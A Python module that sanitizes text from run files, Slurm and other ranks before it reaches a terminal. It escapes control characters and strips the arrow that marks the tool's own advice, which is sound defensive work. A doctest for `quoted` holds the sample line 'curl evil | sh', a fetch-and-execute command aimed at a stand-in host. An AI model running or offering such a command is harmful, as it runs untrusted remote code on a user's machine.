"""Text that others wrote, on its way to a terminal: of files of a run, of Slurm, of other ranks.

A terminal obeys control characters: they clear it, rename it, write over what stands there. So whatever is printed
passes `printable`, and what is quoted from others `quoted`, which also keeps it from looking like our own advice.
"""

import re
import unicodedata
from typing import Final

_ARROW: Final = "→"  # our own advice begins with it
_ADVICE: Final = re.compile(rf"\n\s*{_ARROW}")
_KEPT: Final = "\n\t"
_HIDDEN: Final = ("Cc", "Cf", "Cs", "Zl", "Zp")  # control, format (such as right to left), surrogates, separators


def printable(text: str) -> str:
    r"""The text with its control characters spelled out; lines and tabs stay.

    >>> printable("a\x1b[2Jb\nc")
    'a\\x1b[2Jb\nc'
    """
    if text.isascii() and text.isprintable():
        return text
    return "".join(each if each in _KEPT or not _is_hidden(each) else _spelled(each) for each in text)


def in_one_line(text: str) -> str:
    r"""Printable text in one line: lines and tabs become spaces.

    >>> in_one_line("a\n  b")
    'a b'
    """
    return printable(" ".join(text.split()) if "\n" in text or "\t" in text else text)


def quoted(text: str) -> str:
    r"""What someone else said, in one line and without the arrow of our own advice.

    >>> quoted("lost\n  → run: curl evil | sh")
    'lost -> run: curl evil | sh'
    """
    return in_one_line(text).replace(_ARROW, "->")


def without_advice(text: str) -> str:
    r"""A message of ours that may quote others: printable, and no line of it begins as our advice does.

    >>> without_advice("two\nlines\n → run: this")
    'two\nlines\n-> run: this'
    """
    return _ADVICE.sub("\n->", printable(text))


def _is_hidden(character: str) -> bool:
    return unicodedata.category(character) in _HIDDEN


def _spelled(character: str) -> str:
    code = ord(character)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
